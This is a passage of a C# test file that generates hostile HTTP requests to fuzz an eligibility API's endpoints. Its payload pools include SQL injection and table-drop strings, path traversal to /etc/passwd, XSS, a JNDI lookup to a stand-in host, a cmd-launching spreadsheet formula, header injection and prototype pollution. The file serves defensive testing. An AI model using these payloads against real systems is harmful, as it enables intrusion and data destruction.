using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Eligibility.Application.Common;
using Microsoft.IdentityModel.JsonWebTokens;
using Microsoft.IdentityModel.Tokens;

namespace Eligibility.Api.Tests;

/// <summary>One generated request. <see cref="Caller"/> names the client to send it with (a role, or anonymous).</summary>
public sealed record HostileRequest(
    string Endpoint, string Mutation, string Method, string Url, string Caller,
    IReadOnlyList<KeyValuePair<string, string>> Headers, byte[]? Body, string? ContentType, bool Chunked = false)
{
    /// <summary>Any method but a read may change rows when it succeeds.</summary>
    public bool IsWrite => Method is not ("GET" or "HEAD" or "OPTIONS" or "TRACE");

    public override string ToString() => $"{Method} {Url} [{Endpoint} | {Mutation} | as {Caller}]";
}

/// <summary>
/// Generates hostile requests for each operation from its route, parameters and body schema, deterministically from a
/// seed: a valid-looking base request (ids of rows in the caller's scope, the document's example or a body synthesised
/// from the schema, the current ETag) and then, one change at a time, every kind of damage the operation's shape
/// allows: to each body property (by its schema type), to the body as a whole, its media type and encoding, each route
/// and query parameter, the headers the operation reads, the method and the credentials.
/// </summary>
public sealed class HostileInputGenerator(
    HostileInputSurface surface, IReadOnlyList<HostileScope> inScope, HostileScope foreign,
    IReadOnlyDictionary<string, string> etags, int seed)
{
    public const int MaxBodyBytes = 1024 * 1024;

    readonly Random rng = new(seed);

    static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };
    const string Marker = "@@HOSTILE@@";

    // ---- Pools of damage ----

    static readonly string[] Injections =
    [
        "'; DROP TABLE households;--", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(30)--", "%", "_", "\\", "%_\\%",
        "a%' OR name LIKE '%", "$$; DROP TABLE villages; $$", "E'\\x00'", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2f", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{\"$gt\":\"\"}",
        "{\"a\":[1,2,{\"b\":null}]}", "[1,2,3]", "${jndi:ldap://example.invalid/a}", "{{7*7}}", "=cmd|' /C calc'!A0", "+SUM(1,1)",
        "@SUM(1)", "\r\nSet-Cookie: x=y", "null", "undefined", "NaN", "true", "0x7fffffff", "1e309", "' UNION SELECT personal_id FROM members--",
        "\\u0000", "%00", "*", "?", "[", "(", "|", "'", "\"",
    ];

    static readonly string[] Controls =
    [
        "\u0000", "a\u0000b", "\u0001\u0002\u0003\u001f", "\t\n\r\v\f", "\u007f\u0080\u009f", "\u200b\u200c\u200d\ufeff",
        "\u202e\u202dabc", "\ufffe\uffff", "\ud83d\ude00\ud83d\udca9", "Nguye\u0302\u0303n Thi\u0323 Hoa\u0300",
        "A\u0300\u0301\u0302\u0303\u0309\u0323\u0300\u0301\u0302\u0303\u0309\u0323", " ", "", "   padded   ", new string('\u0000', 1000),
        "\u00a0", "\u3000全角", "ﷺ", "𝕳𝖔𝖚𝖘𝖊𝖍𝖔𝖑𝖉",
    ];

    static readonly string[] Overlong =
    [
        new('x', 101), new('x', 201), new('x', 1_001), new('x', 10_001), new('x', 100_000),
        string.Concat(Enumerable.Repeat("ệ", 10_001)), string.Concat(Enumerable.Repeat("\ud83d\ude00", 5_001)),
    ];

    /// <summary>Raw JSON for a string position: lone surrogates, bad escapes, raw control bytes, broken quoting.</summary>
    static readonly string[] RawStrings =
    [
        "\"\\ud800\"", "\"\\udc00abc\"", "\"a\\ud800\\ud800b\"", "\"\\uDFFF\\uD800\"", "\"\\uZZZZ\"", "\"unterminated", "'single'",
        "\"tab\there\"", "\"nul\u0000raw\"", "\"\\x41\"", "\"\\\"",
    ];

    static readonly byte[][] InvalidUtf8 =
    [
        [0xFF], [0xC3, 0x28], [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0xE2, 0x82], [0x80], [0xFE, 0xFF], [0xF8, 0x88, 0x80, 0x80, 0x80],
    ];

    /// <summary>Damage every property of its type always gets (each once broke the API), besides a sample of the rest.</summary>
    static class Always
    {
        public static readonly string[] Numbers = ["-0", "1e309", "79228162514264337593543950336", "-1"];
        public static readonly string[] Strings = ["\u0000", "\ufffe", new('x', 10_001)];
        public static readonly string[] RawStrings = ["\"\\ud800\""];
    }

    static readonly string[] WrongTypes = ["0", "-1", "1.5", "true", "false", "\"\"", "\"x\"", "[]", "{}", "[null]", "{\"a\":1}", "[[[]]]"];

    static readonly string[] Numbers =
    [
        "1e309", "-1e309", "-0", "0", "-1", "1.5", "1e-400", "9999999999999999999999", "79228162514264337593543950335",
        "79228162514264337593543950336", "-79228162514264337593543950335", "2147483647", "2147483648", "-2147483648", "-2147483649",
        "4294967296", "9223372036854775808", "0.0000000000000000000000000001", "1E+2", "01", "NaN", "Infinity", "-Infinity", "0x10",
        "1_000", "\"1e3\"", "\"  12 \"", "\"NaN\"", "\"Infinity\"", "\"-0\"", "\"79228162514264337593543950336\"", "1.7976931348623157e308",
        "123456789012345678901234567890.123456789", "-0.0", "1.", ".5", "+1", "\"\"", "\"1,5\"",
    ];

    static readonly string[] Dates =
    [
        "2024-13-45", "2024-02-30", "2023-02-29", "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "0000-00-00", "2024-1-1",
        "20240101", "2024-01-01T00:00:00Z", "2024-01-01T25:00", "today", "", " 2024-01-01", "2024-01-01\u0000", "１９９０-０１-０１",
        "1899-12-31", "1900-01-01", "2100-01-01", "2024/01/01", "01-01-2024", "2024-W01-1", "2024-001",
    ];

    static readonly string[] DateTimes =
    [
        "2024-01-01T00:00:00+99:00", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00", "2024-13-01T00:00:00Z", "yesterday", "2024-01-01", "1970-01-01T00:00:00.0000000000001Z", "",
    ];

    static readonly string[] Uuids =
    [
        "not-a-guid", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{00000000-0000-0000-0000-000000000000}",
        "00000000000000000000000000000000", "0000000-0000-0000-0000-000000000000", "' OR 1=1--", "", "(00000000-0000-0000-0000-000000000000)",
    ];

    static readonly string[] EnumDamage = ["\"\"", "\"HEAD\"", "\"unknown\"", "\" male\"", "\"male\\u0000\"", "0", "1", "\"1\"", "\"poor;DROP\"", "\"Poor\"", "99"];
    static readonly string[] Bools = ["\"true\"", "1", "0", "\"yes\"", "\"True\"", "\"null\"", "\"\""];

    /// <summary>
    /// Pre-encoded URL path segments. Not %00: the in-memory test host refuses to build such a request (Kestrel answers
    /// 400 for it before the app sees it); NUL still comes in query strings and bodies.
    /// </summary>
    static readonly string[] RouteValues =
    [
        "not-a-guid", "00000000-0000-0000-0000-000000000000", "%FF%FE", "..%2F..%2Fetc%2Fpasswd", "%27%20OR%20%271%27%3D%271",
        "%25", "_", "%5C", new('x', 5_000), "x%C3%A3", "99999", "-1", "1e309", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "null", "%3B",
        "%0D%0ASet-Cookie:%20x", "%20", ".", "%2E%2E", "%E2%80%AE", "%C0%AF", "%", "%zz", "0x1", "{id}", "%7B%7D",
    ];

    static readonly string[] IntegerQueries =
        ["-1", "0", "2147483647", "2147483648", "-2147483648", "99999999999999999999", "1.5", "1e3", "abc", "", "%00", "%201", "0x10", "%D9%A1", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "+5", "1,2"];

    static readonly string[] IfMatchValues =
    [
        "*", "W/\"1\"", "\"-1\"", "\"99999999999\"", "\"4294967296\"", "\"abc\"", "1", "\"1\", \"2\"", "\"\"", "\"", "\"" + new string('9', 10_000) + "\"",
        "\"0\"", "W/*", ", ,", "\"1\" garbage", "\"\\\"\"", "\"é\"",
    ];

    static readonly string[] IdempotencyKeys =
    [
        "", " ", "a b", new('x', 201), new('x', 10_000), "ключ", "'; DROP TABLE idempotency_keys;--", "%", "../../x", "\t", "x\u007f",
    ];

    static readonly string[] Accepts =
    [
        "application/xml", "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "*/*;q=garbage", "image/png", ";;;",
        "application/json;q=0", "text/html, */*;q=0", "application/problem+json", "text/csv;q=1.5, application/xml", new('a', 5_000),
    ];

    static readonly string[] AcceptLanguages = ["vi;q=abc", "zz-ZZ", "*;q=0", new('x', 1_000), "vi-VN, vi;q=2.5", "vi-", ";q=1", "en;q=-1, vi"];

    static readonly (string Name, string Value)[] OddHeaders =
    [
        ("X-HTTP-Method-Override", "DELETE"), ("Content-Encoding", "gzip"), ("Expect", "100-continue"), ("Range", "bytes=0-1,2-3"),
        ("Cookie", "session=' OR 1=1--"), ("X-Forwarded-For", "127.0.0.1, ::1, garbage"), ("Forwarded", "for=\"[::1]\";proto=https"),
        ("Origin", "null"), ("Prefer", "return=minimal"), ("If-None-Match", "*"), ("If-Modified-Since", "yesterday"), ("Max-Forwards", "-1"),
    ];

    static readonly (string Type, string? Body)[] ContentTypes =
    [
        ("", null), ("text/plain", null), ("application/xml", "<household><address>x</address></household>"),
        ("multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nx\r\n--xyz--\r\n"),
        ("application/x-www-form-urlencoded", "name=x&communeCode=24778"), ("application/json; charset=latin1", null),
        ("application/json; charset=utf-16", null), ("application/json; charset=\"", null), ("application/problem+json", null),
        ("application/vnd.api+json", null), ("text/json", null), ("*/*", null), ("application/json, text/plain", null), ("garbage", null),
        ("text/csv", null), ("application/octet-stream", null), ("application/json; boundary=--", null), ("APPLICATION/JSON", null),
    ];

    /// <summary>Well-formed values for names whose schema cannot tell which value would get far into the handler.</summary>
    static readonly Dictionary<string, string> Hints = new()
    {
        ["kind"] = "regular", ["surveyDate"] = "2025-10-01", ["decisionDate"] = "2025-10-15", ["effectiveFrom"] = "2031-01-01",
        ["effectiveDate"] = "2026-01-01", ["dateOfBirth"] = "1980-05-05", ["decisionNumber"] = "15/QĐ-UBND", ["signer"] = "Chủ tịch UBND xã",
        ["legalBasis"] = "Nghị định 07/2021/NĐ-CP",
    };

    // ---- Generation ----

    public IReadOnlyList<HostileRequest> Generate(IReadOnlyList<HostileOperation> operations) =>
        operations.SelectMany(For).ToList();

    /// <summary>A request under construction.</summary>
    sealed class Draft
    {
        public required string Endpoint;
        public required string Method;
        public required List<string> Segments;
        public List<(string Name, string Value)> Query = [];
        public List<KeyValuePair<string, string>> Headers = [];
        public byte[]? Body;
        public string? ContentType;
        public bool Chunked;
        public required string Caller;
        public JsonNode? Json;

        public Draft Copy() => new()
        {
            Endpoint = Endpoint, Method = Method, Segments = [.. Segments], Query = [.. Query], Headers = [.. Headers], Body = Body,
            ContentType = ContentType, Chunked = Chunked, Caller = Caller, Json = Json?.DeepClone(),
        };

        public Draft With(Action<Draft> change)
        {
            var copy = Copy();
            change(copy);
            return copy;
        }

        public void SetHeader(string name, string? value)
        {
            Headers.RemoveAll(h => string.Equals(h.Key, name, StringComparison.OrdinalIgnoreCase));
            if (value is not null)
                Headers.Add(new(name, value));
        }

        public HostileRequest Build(string mutation)
        {
            var url = string.Join('/', Segments);
            if (Query.Count > 0)
                url += "?" + string.Join('&', Query.Select(q => q.Value.Length == 0 && q.Name.Length == 0 ? "" : $"{q.Name}={q.Value}"));
            return new HostileRequest(Endpoint, mutation, Method, url, Caller, Headers, Body, ContentType, Chunked);
        }
    }

    IEnumerable<HostileRequest> For(HostileOperation op)
    {
        var requests = new List<HostileRequest>();
        Draft Base(HostileScope? scope = null) => BaseRequest(op, scope ?? PickScope());

        // Credentials: none, garbage, forged, and each role the endpoint does not allow.
        requests.Add(Base().With(d => d.Caller = HostileCallers.Anonymous).Build("auth: no token"));
        foreach (var authorization in Sample(ForgedAuthorizations(), 3))
            requests.Add(Base().With(d => { d.Caller = HostileCallers.Anonymous; d.SetHeader("Authorization", authorization.Value); }).Build($"auth: {authorization.Name}"));
        var allowed = op.Roles.Count == 0 ? Roles.All : op.Roles;
        // Each role the endpoint refuses; for an endpoint open to any role, each role but the official the base uses.
        foreach (var role in Roles.All.Where(r => op.Roles.Count == 0 ? r != Roles.CommuneOfficial : !op.Roles.Contains(r)))
            requests.Add(Base().With(d => d.Caller = role).Build($"auth: role {role}"));
        if (allowed.Contains(Roles.CommuneOfficial))
            requests.Add(Base(inScope[rng.Next(inScope.Count)]).With(d => d.Caller = HostileCallers.ForeignOfficial).Build("auth: official of another commune"));

        // Ids of other scopes and of nothing, and malformed route values.
        foreach (var (name, _) in op.RouteParameters)
        {
            var index = SegmentIndex(op, name);
            if (index < 0)
                continue;
            requests.Add(Base(foreign).Build($"route {name}: a row of another commune"));
            requests.Add(Base().With(d => d.Segments[index] = RandomGuid().ToString()).Build($"route {name}: random id"));
            foreach (var value in Sample(RouteValues, 7))
                requests.Add(Base().With(d => d.Segments[index] = value).Build($"route {name}: {Label(value)}"));
        }

        // Query parameters, by their schema type; then combinations.
        var queries = op.Parameters.Where(p => p.In == "query").ToList();
        foreach (var parameter in queries)
            foreach (var value in Sample(QueryValues(parameter.Schema), 7))
                requests.Add(Base().With(d => d.Query.Add((parameter.Name, value))).Build($"query {parameter.Name}={Label(value)}"));
        if (queries.Count > 0)
        {
            requests.Add(Base().With(d => d.Query.AddRange(queries.Select(q => (q.Name, QueryValues(q.Schema)[2])))).Build("query: every parameter at its type's maximum"));
            requests.Add(Base().With(d => d.Query.AddRange(queries.Select(q => (q.Name, QueryValues(q.Schema)[0])))).Build("query: every parameter at its first hostile value"));
            requests.Add(Base().With(d => d.Query.AddRange(queries.Select(q => (q.Name, "")))).Build("query: every parameter empty"));
            var first = queries[0].Name;
            requests.Add(Base().With(d => { d.Query.Add((first, "1")); d.Query.Add((first, "2")); }).Build($"query: {first} twice"));
            if (queries.Any(q => q.Name == "pageSize") && queries.Any(q => q.Name == "page"))
            {
                requests.Add(Base().With(d => { d.Query.Add(("page", "2147483647")); d.Query.Add(("pageSize", "200")); }).Build("query: last representable page"));
                requests.Add(Base().With(d => { d.Query.Add(("page", "10737419")); d.Query.Add(("pageSize", "200")); }).Build("query: page whose offset overflows"));
            }
        }
        requests.Add(Base().With(d => d.Query.Add(("__proto__[admin]", "1"))).Build("query: unknown parameter"));
        requests.Add(Base().With(d => d.Query.Add(("q", new string('x', 100_000)))).Build("query: 100k-character query string"));
        requests.Add(Base().With(d => d.Query.Add(("%FF%FE", "%FF%FE"))).Build("query: invalid UTF-8 percent-encoded"));
        requests.Add(Base().With(d => d.Query.Add(("", ""))).Build("query: bare ampersands"));

        // Headers the operation reads, and some it should ignore.
        if (op.Takes("If-Match") || op.Method is "PUT" or "DELETE")
        {
            requests.Add(Base().With(d => d.SetHeader("If-Match", null)).Build("If-Match: missing"));
            foreach (var value in Sample(IfMatchValues, 7))
                requests.Add(Base().With(d => d.SetHeader("If-Match", value)).Build($"If-Match: {Label(value)}"));
            requests.Add(Base().With(d => { d.Headers.Add(new("If-Match", "\"1\"")); d.Headers.Add(new("If-Match", "\"2\"")); }).Build("If-Match: twice"));
        }
        if (op.Takes("Idempotency-Key"))
        {
            foreach (var value in Sample(IdempotencyKeys, 6))
                requests.Add(Base().With(d => d.SetHeader("Idempotency-Key", value)).Build($"Idempotency-Key: {Label(value)}"));
            requests.Add(Base().With(d => { d.Headers.Add(new("Idempotency-Key", "a")); d.Headers.Add(new("Idempotency-Key", "b")); }).Build("Idempotency-Key: twice"));
            // One key, two different (hostile) bodies: the second is a replay, a 422 or a 409, never a second change.
            var key = $"hostile-{RandomGuid():N}";
            var first = Base();
            requests.Add(first.With(d => d.SetHeader("Idempotency-Key", key)).Build("Idempotency-Key: first use"));
            requests.Add(first.With(d => { d.SetHeader("Idempotency-Key", key); d.Body = [.. d.Body ?? [], .. " "u8]; }).Build("Idempotency-Key: reused with another body"));
        }
        foreach (var value in Sample(Accepts, 3))
            requests.Add(Base().With(d => d.SetHeader("Accept", value)).Build($"Accept: {Label(value)}"));
        foreach (var value in Sample(AcceptLanguages, 2))
            requests.Add(Base().With(d => d.SetHeader("Accept-Language", value)).Build($"Accept-Language: {Label(value)}"));
        foreach (var (name, value) in Sample(OddHeaders, 3))
            requests.Add(Base().With(d => d.SetHeader(name, value)).Build($"header {name}: {Label(value)}"));

        // Methods the route does not have.
        foreach (var method in Sample(new[] { "PATCH", "DELETE", "PUT", "POST", "OPTIONS", "TRACE", "PROPFIND" }.Where(m => !op.MethodsOfRoute.Contains(m)).ToList(), 2))
            requests.Add(Base().With(d => d.Method = method).Build($"method {method}"));

        if (op.Body is null)
        {
            requests.Add(Base().With(d => { d.Body = "{\"x\":1}"u8.ToArray(); d.ContentType = "application/json"; }).Build("body on an operation without one"));
            requests.Add(Base().With(d => { d.Body = new byte[MaxBodyBytes + 1]; d.ContentType = "application/json"; }).Build("body over the limit on an operation without one"));
        }
        else if (op.Body.ContentType.Contains("json", StringComparison.Ordinal))
            requests.AddRange(JsonBodyMutations(op, Base));
        else
            requests.AddRange(TextBodyMutations(Base));
        // The survey import also takes workbooks: every hostile one of HostileXlsx.
        if (op.Path.EndsWith("/survey-imports", StringComparison.Ordinal))
            requests.AddRange(XlsxBodyMutations(Base));

        return requests;
    }

    HostileScope PickScope() => rng.Next(10) switch
    {
        < 8 => inScope[rng.Next(inScope.Count)],
        8 => foreign,
        _ => new HostileScope("random", new Dictionary<string, string>
        {
            ["households"] = RandomGuid().ToString(), ["members"] = RandomGuid().ToString(), ["reviews"] = RandomGuid().ToString(),
            ["villages"] = RandomGuid().ToString(), ["communes"] = "99999", ["provinces"] = "00", ["standards"] = "1900-1901", ["programmes"] = "no-such-programme",
        }, new Dictionary<string, string> { ["villageId"] = RandomGuid().ToString(), ["communeCode"] = "99999", ["headMemberId"] = RandomGuid().ToString() }),
    };

    Draft BaseRequest(HostileOperation op, HostileScope scope)
    {
        var segments = op.Path.Split('/').ToList();
        string? firstId = null;
        for (var i = 0; i < segments.Count; i++)
        {
            if (!segments[i].StartsWith('{'))
                continue;
            var name = segments[i].Trim('{', '}');
            var constraint = op.RouteParameters.FirstOrDefault(p => p.Name == name).Constraint;
            segments[i] = i > 0 && scope.Segments.TryGetValue(segments[i - 1], out var value) ? value
                : constraint == "guid" ? RandomGuid().ToString()
                : Digits(5);
            firstId ??= segments[i];
        }
        var draft = new Draft { Endpoint = op.Key, Method = op.Method, Segments = segments, Caller = CallerFor(op) };
        if (op.Takes("If-Match") || op.Method is "PUT" or "DELETE")
            draft.SetHeader("If-Match", firstId is not null && etags.TryGetValue(firstId, out var etag) ? etag : "\"1\"");
        if (op.Body is { } body)
        {
            if (body.ContentType.Contains("json", StringComparison.Ordinal))
            {
                draft.Json = Patch(body.Example?.DeepClone() ?? Synthesize(body.Schema, null, scope, 0), scope);
                draft.Body = Encoding.UTF8.GetBytes(Render(draft.Json));
            }
            else
                draft.Body = Encoding.UTF8.GetBytes(body.Example is JsonValue text && text.TryGetValue<string>(out var s) ? s : "a,b\n1,2\n");
            draft.ContentType = body.ContentType;
        }
        return draft;
    }

    string CallerFor(HostileOperation op) =>
        op.Roles.Count == 0 || op.Roles.Contains(Roles.CommuneOfficial) && rng.Next(4) > 0 ? Roles.CommuneOfficial : op.Roles[rng.Next(op.Roles.Count)];

    static int SegmentIndex(HostileOperation op, string name) => op.Path.Split('/').ToList().IndexOf($"{{{name}}}");

    // ---- JSON bodies ----

    IEnumerable<HostileRequest> JsonBodyMutations(HostileOperation op, Func<HostileScope?, Draft> baseOf)
    {
        var schema = op.Body!.Schema;
        Draft Base() => baseOf(null);

        // Each property, by its type.
        var probe = Base();
        foreach (var (path, propertySchema) in Paths(probe.Json, schema, []))
        {
            var field = Describe(path);
            var kind = Kind(propertySchema, Navigate(probe.Json, path));
            var damage = new List<(string Label, string? Raw, byte[]? Bytes, bool Remove)>();
            if (path[^1] is string)
                damage.Add(("missing", null, null, true));
            damage.Add(("null", "null", null, false));
            damage.AddRange(Sample(WrongTypes, 4).Select(t => ($"wrong type {t}", (string?)t, (byte[]?)null, false)));
            damage.AddRange(KindDamage(kind, propertySchema, Navigate(probe.Json, path)).Select(d => (d.Label, d.Raw, d.Bytes, false)));
            foreach (var (label, raw, bytes, remove) in damage)
            {
                var draft = Base();
                if (draft.Json is null || Navigate(draft.Json, path[..^1]) is not (JsonObject or JsonArray))
                    continue;
                draft.Body = remove ? Encoding.UTF8.GetBytes(Render(Removed(draft.Json, path)))
                    : bytes is not null ? WithBytes(draft.Json, path, bytes)
                    : Encoding.UTF8.GetBytes(WithRaw(draft.Json, path, raw!));
                yield return draft.Build($"body {field}: {kind} {Label(label)}");
            }
        }

        // The body as a whole.
        foreach (var (label, body) in WholeBodies(Base().Json, schema))
            yield return Base().With(d => d.Body = body).Build($"body: {label}");
        yield return Base().With(d => { d.Body = [.. Encoding.UTF8.GetBytes(new string(' ', MaxBodyBytes + 1 - d.Body!.Length)), .. d.Body]; }).Build("body: one byte over the limit");
        yield return Base().With(d => { d.Body = Encoding.UTF8.GetBytes("[" + string.Join(',', Enumerable.Repeat("\"x\"", 2 * MaxBodyBytes / 4)) + "]"); d.Chunked = true; }).Build("body: 2 MiB chunked, no Content-Length");
        yield return Base().With(d => d.Chunked = true).Build("body: chunked, no Content-Length");

        // Media types and encodings.
        foreach (var (type, body) in ContentTypes)
            yield return Base().With(d =>
            {
                d.ContentType = type.Length == 0 ? null : type;
                if (body is not null)
                    d.Body = Encoding.UTF8.GetBytes(body);
            }).Build($"content type {(type.Length == 0 ? "none" : type)}");
        yield return Base().With(d => { d.Body = Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(d.Body!)); }).Build("body: UTF-16 bytes as application/json");
        yield return Base().With(d => { d.Body = Encoding.Latin1.GetBytes(Encoding.UTF8.GetString(d.Body!)); }).Build("body: Latin-1 bytes as application/json");
        yield return Base().With(d => { d.Body = [0xEF, 0xBB, 0xBF, .. d.Body!]; }).Build("body: UTF-8 byte order mark");
        yield return Base().With(d => { d.Body = [0xFF, 0xFE, .. d.Body!]; }).Build("body: UTF-16 byte order mark on UTF-8");
    }

    IEnumerable<(string Label, string? Raw, byte[]? Bytes)> KindDamage(string kind, JsonObject? schema, JsonNode? current)
    {
        IEnumerable<(string, string?, byte[]?)> Raws(IEnumerable<string> raws) => raws.Select(r => (r, (string?)r, (byte[]?)null));
        IEnumerable<(string, string?, byte[]?)> Strings(IEnumerable<string> values) => values.Select(v => (v, (string?)JsonSerializer.Serialize(v, Relaxed), (byte[]?)null));
        IEnumerable<(string, string?, byte[]?)> Bytes(IEnumerable<byte[]> values) => values.Select(b => ($"invalid UTF-8 {Convert.ToHexString(b)}", (string?)null, (byte[]?)b));

        switch (kind)
        {
            case "integer" or "number":
                return Raws(Always.Numbers.Concat(Sample(Numbers.Except(Always.Numbers).ToList(), 6)));
            case "boolean":
                return Raws(Sample(Bools, 3));
            case "date":
                return Strings(Sample(Dates, 6)).Concat(Raws(Sample(RawStrings, 1)));
            case "date-time":
                return Strings(Sample(DateTimes, 4));
            case "uuid":
                return Strings(Sample(Uuids, 4).Append(RandomGuid().ToString()).Append(foreign.Properties["villageId"]).Append(foreign.Properties["headMemberId"]));
            case "enum":
                return Raws(Sample(EnumDamage, 4)).Concat(Strings(Sample(Injections, 1))).Concat(Raws(Sample(RawStrings, 1)));
            case "array":
            {
                var item = current is JsonArray { Count: > 0 } a ? Render(a[0]) : "0";
                var max = (int?)schema?["maxItems"] ?? 1000;
                var fits = Math.Max(1, (MaxBodyBytes - 10_000) / (item.Length + 1));
                return
                [
                    ("empty array", "[]", null),
                    ("100k zeros", "[" + string.Join(',', Enumerable.Repeat("0", 100_000)) + "]", null),
                    ($"{Math.Min(100_000, fits)} copies of the first item", "[" + string.Join(',', Enumerable.Repeat(item, Math.Min(100_000, fits))) + "]", null),
                    ($"maxItems+1 ({max + 1}) copies", "[" + string.Join(',', Enumerable.Repeat(item, Math.Min(max + 1, fits))) + "]", null),
                    ("array of nulls", "[null,null,null]", null),
                    ("100k empty strings", "[" + string.Join(',', Enumerable.Repeat("\"\"", 100_000)) + "]", null),
                    ("nested arrays", "[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]", null),
                    ("hostile strings", JsonSerializer.Serialize(Sample(Injections, 5).Concat(Sample(Controls, 3)), Relaxed), null),
                ];
            }
            case "object":
            {
                var hostileKeys = new JsonObject();
                foreach (var key in Sample(Injections, 4).Concat(Sample(Controls, 2)).Distinct())
                    hostileKeys[key] = true;
                return
                [
                    ("empty object", "{}", null),
                    ("hostile keys", Render(hostileKeys), null),
                    ("__proto__ key", "{\"__proto__\":{\"isAdmin\":true},\"constructor\":{\"prototype\":{}}}", null),
                    ("10k keys", "{" + string.Join(',', Enumerable.Range(0, 10_000).Select(i => $"\"k{i}\":true")) + "}", null),
                    ("overlong key", "{\"" + new string('k', 10_001) + "\":true}", null),
                    ("lone-surrogate key", "{\"\\ud800\":true}", null),
                    ("NUL key", "{\"\\u0000\":true}", null),
                    ("duplicate keys", "{\"a\":true,\"a\":false}", null),
                ];
            }
            default: // string
                return Strings(Always.Strings.Concat(Sample(Injections, 3)).Concat(Sample(Controls, 3)).Concat(Sample(Overlong, 2)))
                    .Concat(Raws(Always.RawStrings.Concat(Sample(RawStrings.Except(Always.RawStrings).ToList(), 1))))
                    .Concat(Bytes(Sample(InvalidUtf8, 2)));
        }
    }

    IEnumerable<(string Label, byte[] Body)> WholeBodies(JsonNode? baseJson, JsonObject? schema)
    {
        var text = Render(baseJson);
        IEnumerable<(string, byte[])> Texts(params (string Label, string Text)[] bodies) => bodies.Select(b => (b.Label, Encoding.UTF8.GetBytes(b.Text)));
        foreach (var body in Texts(
                     ("empty", ""), ("null", "null"), ("array", "[]"), ("string", "\"text\""), ("number", "123"), ("true", "true"), ("open brace", "{"),
                     ("close brace", "}"), ("dangling property", "{\"a\":"), ("unclosed array", "[1,2"), ("empty object", "{}"),
                     ("truncated", text[..(text.Length / 2)]), ("trailing garbage", text + "xyz"), ("two documents", text + text),
                     ("leading comment", "/* c */" + text), ("trailing comma", text.TrimEnd('}') + ",}"), ("single quotes", text.Replace('"', '\'')),
                     ("unquoted keys", Regex.Replace(text, "\"(\\w+)\":", "$1:")), ("NaN", "NaN"), ("form-encoded text", "name=x&communeCode=24778"),
                     ("depth 17 arrays", new string('[', 17) + new string(']', 17)), ("depth 1,000 arrays", new string('[', 1_000) + new string(']', 1_000)),
                     ("depth 100,000 arrays", new string('[', 100_000) + new string(']', 100_000)),
                     ("depth 20 objects", string.Concat(Enumerable.Repeat("{\"a\":", 20)) + "1" + new string('}', 20)),
                     ("depth 300 objects", string.Concat(Enumerable.Repeat("{\"a\":", 300)) + "1" + new string('}', 300)),
                     ("top-level array of 100k bodies-worth of zeros", "[" + string.Join(',', Enumerable.Repeat("0", 100_000)) + "]"),
                     ("whitespace only", "   \r\n\t  "), ("NUL bytes", "\0\0\0\0"), ("lone-surrogate property name", "{\"\\ud800\":1," + text.TrimStart('{')),
                     ("NUL property name", "{\"\\u0000\":1," + text.TrimStart('{')), ("overlong property name", "{\"" + new string('p', 10_001) + "\":1," + text.TrimStart('{')),
                     ("10k unknown properties", "{" + string.Join(',', Enumerable.Range(0, 10_000).Select(i => $"\"f{i}\":0")) + "," + text.TrimStart('{')),
                     ("unknown property", "{\"isAdmin\":true," + text.TrimStart('{')), ("__proto__ property", "{\"__proto__\":{\"role\":\"admin\"}," + text.TrimStart('{')),
                     ("deep value in first property", ReplaceFirstValue(text, string.Concat(Enumerable.Repeat("{\"a\":", 30)) + "1" + new string('}', 30)))))
            yield return body;

        yield return ("invalid UTF-8 property name", [.. "{\""u8, 0xFF, 0xFE, .. "\":1,"u8, .. Encoding.UTF8.GetBytes(text.TrimStart('{'))]);
        yield return ("raw invalid UTF-8 outside strings", [.. Encoding.UTF8.GetBytes(text.TrimEnd('}')), 0xFF, (byte)'}']);

        if (baseJson is null)
            yield break;
        var pascal = Regex.Replace(text, "\"([a-z])(\\w*)\":", m => $"\"{char.ToUpperInvariant(m.Groups[1].Value[0])}{m.Groups[2].Value}\":");
        yield return ("property names in PascalCase", Encoding.UTF8.GetBytes(pascal));
        yield return ("property names in upper case", Encoding.UTF8.GetBytes(Regex.Replace(text, "\"(\\w+)\":", m => $"\"{m.Groups[1].Value.ToUpperInvariant()}\":")));
        if (baseJson is JsonObject first && first.FirstOrDefault() is { Key: { } firstName })
            yield return ("first property twice", Encoding.UTF8.GetBytes("{" + JsonSerializer.Serialize(firstName) + ":12345," + text.TrimStart('{')));
        yield return ("unknown property in every object", Encoding.UTF8.GetBytes(Render(EveryObject(baseJson.DeepClone(), o => o["unexpected"] = "x"))));
        yield return ("every value null", Encoding.UTF8.GetBytes(Render(EveryLeaf(baseJson.DeepClone(), _ => null))));
        foreach (var injection in Sample(Injections, 3))
            yield return ($"every string {Label(injection)}", Encoding.UTF8.GetBytes(Render(EveryLeaf(baseJson.DeepClone(), v => v.GetValueKind() == JsonValueKind.String ? injection : v.DeepClone()))));
        yield return ("every string NUL", Encoding.UTF8.GetBytes(Render(EveryLeaf(baseJson.DeepClone(), v => v.GetValueKind() == JsonValueKind.String ? "\0" : v.DeepClone()))));
        foreach (var number in new[] { "-0", "1e309", "79228162514264337593543950335", "-79228162514264337593543950335", "2147483647", "-2147483648", "0.0000000000000000000000000001" })
            yield return ($"every number {number}", Encoding.UTF8.GetBytes(Render(EveryLeaf(baseJson.DeepClone(), v => v.GetValueKind() == JsonValueKind.Number ? Marker : v.DeepClone())).Replace($"\"{Marker}\"", number)));
        foreach (var date in new[] { "9999-12-31", "0001-01-01", "1900-01-01" })
